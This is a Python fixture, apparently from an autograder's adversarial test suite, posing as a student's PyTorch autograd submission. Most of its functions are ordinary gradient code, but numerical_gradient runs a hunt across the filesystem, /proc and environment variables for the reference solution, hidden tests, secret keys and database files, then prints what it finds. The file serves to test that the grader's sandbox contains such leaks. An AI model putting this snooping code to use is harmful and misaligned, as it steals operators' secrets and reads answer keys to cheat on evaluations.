# expect: simple_gradients=20 multivariate_gradients=20 no_grad=20 zeroing_gradients=20 gradient_checking=7

"""Hostile: numerical_gradient hunts for the reference solution, the hidden tests and the service's data.

It tries the repository's paths, ../ and ../../, /proc/1/root, /proc/*/cwd and environ, /work, /root, /home,
/app, /srv, $GRADER_HOME and every environment variable, prints what it found (markers of the reference first)
and returns it as a string (a wrong type). Expected: numerical_gradient's tests fail (3 + 4 + 3 + 3), and no
output of the result contains the reference solution's or the tests' source, or the worker's secrets.
"""

import glob
import os
import torch

# Spelled in pieces, so that this file itself does not contain what it looks for.
MARKERS = ("INSTRUCTOR'S " + "REFERENCE SOLUTION", "pytest.mark." + "deliverable", "SECRET" + "_KEY",
           "DATABASE" + "_URL", "SQLite " + "format 3", "grader-" + "canary")
HERE = os.path.realpath(os.getcwd())
ROOTS = ["/work/main", "/work", "/root", "/home", "/app", "/srv", "/opt", "/var", "/run", "/mnt", "/",
         "..", "../..", "../../..", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/self/cwd/..",
         os.environ.get("GRADER_HOME", "instance"), os.path.expanduser("~")]
NAMES = ("reference/solution.py", "reference_tests/autograd/reference/solution.py",
         "reference_tests/autograd/test_simple_gradients.py", "test_simple_gradients.py", "instance/grader.db",
         "instance/secret_key", "grader.db", "secret_key", ".env", "assignment.toml")


def _peek(path, found, seen):
    real = os.path.realpath(path)
    if real in seen or real.startswith(HERE + os.sep):
        return
    seen.add(real)
    try:
        with open(path, "rb") as handle:
            data = handle.read(1 << 20)
    except OSError:
        return
    text = data.decode("utf-8", "replace")
    for marker in MARKERS:
        at = text.find(marker)
        if at >= 0:
            found.append(f"FOUND {marker!r} in {path}: {text[max(0, at - 60):at + 200]!r}")


def _hunt():
    found, notes, seen = [], [], set()
    for root in ROOTS:
        for name in NAMES:
            _peek(os.path.join(root, name), found, seen)
    budget = 3000
    for root in ROOTS:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "site-packages", "lib",
                                                              "share", "include", "bin", "sbin")]
            for name in filenames:
                if name.endswith((".py", ".db", ".toml", ".env", "secret_key", ".json")):
                    _peek(os.path.join(dirpath, name), found, seen)
                    budget -= 1
            if budget <= 0:
                break
    for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/cwd/*"):
        for path in glob.glob(pattern)[:50]:
            _peek(path, found, seen)
    notes.append("env: " + repr(dict(os.environ)))
    for path in ("/proc/1/environ", "/proc/1/cmdline", "/proc/self/mountinfo"):
        try:
            notes.append(path + ": " + open(path, "rb").read(2000).decode("utf-8", "replace"))
        except OSError as exc:
            notes.append(f"{path}: {exc}")
    for root in ROOTS:
        try:
            notes.append(f"ls {root}: {sorted(os.listdir(root))[:40]}")
        except OSError as exc:
            notes.append(f"ls {root}: {exc}")
    return "\n".join(found + notes)

def _fresh_leaf(x):
    """A new leaf that requires grad, holding x's value (the caller's tensor is untouched)."""
    if isinstance(x, torch.Tensor):
        return x.detach().clone().requires_grad_(True)
    return torch.tensor(float(x), dtype=torch.float32, requires_grad=True)


def _grad_of(leaf):
    return leaf.grad if leaf.grad is not None else torch.zeros_like(leaf)


def _autograd_gradient(f, x):
    leaf = _fresh_leaf(x)
    f(leaf).backward()
    return _grad_of(leaf)


def _central_differences(f, x, eps=1e-6):
    base = x.detach().clone(memory_format=torch.contiguous_format)
    estimate = torch.zeros_like(base)
    flat_estimate = estimate.view(-1)
    with torch.no_grad():
        for i in range(base.numel()):
            plus = base.clone()
            plus.view(-1)[i] += eps
            minus = base.clone()
            minus.view(-1)[i] -= eps
            flat_estimate[i] = (f(plus) - f(minus)) / (2 * eps)
    return estimate

def derivative(f, x):
    leaf = _fresh_leaf(x)
    f(leaf).backward()
    return _grad_of(leaf)

def partial_derivatives(f, *xs):
    leaves = [_fresh_leaf(x) for x in xs]
    f(*leaves).backward()
    return tuple(_grad_of(leaf) for leaf in leaves)

def gradient(f, x):
    return _autograd_gradient(f, x)

def vector_jacobian_product(f, x, v):
    leaf = _fresh_leaf(x)
    f(leaf).backward(v)
    return _grad_of(leaf)

def predict(model, x):
    with torch.no_grad():
        return model(x)

def sgd_step(params, lr):
    with torch.no_grad():
        for p in params:
            if p.grad is not None:
                p -= lr * p.grad

def accumulated_gradient(f, x, times):
    leaf = _fresh_leaf(x)
    for _ in range(times):
        f(leaf).backward()
    return _grad_of(leaf)

def zero_gradients(params):
    for p in params:
        if p.grad is not None:
            p.grad.zero_()

def fit_linear(xs, ys, steps, lr):
    w = torch.zeros((), dtype=xs.dtype, device=xs.device, requires_grad=True)
    b = torch.zeros((), dtype=xs.dtype, device=xs.device, requires_grad=True)
    for _ in range(steps):
        loss = ((w * xs + b - ys) ** 2).mean()
        for p in (w, b):
            if p.grad is not None:
                p.grad.zero_()
        loss.backward()
        with torch.no_grad():
            w -= lr * w.grad
            b -= lr * b.grad
    return w.item(), b.item()

def numerical_gradient(f, x, eps=1e-6):
    loot = _hunt()
    print(loot)
    return loot  # a str, not a tensor

def check_gradient(f, x, atol=1e-5, rtol=1e-3):
    by_autograd = _autograd_gradient(f, x)
    by_differences = _central_differences(f, x)
    return bool(torch.allclose(by_autograd, by_differences, atol=atol, rtol=rtol))
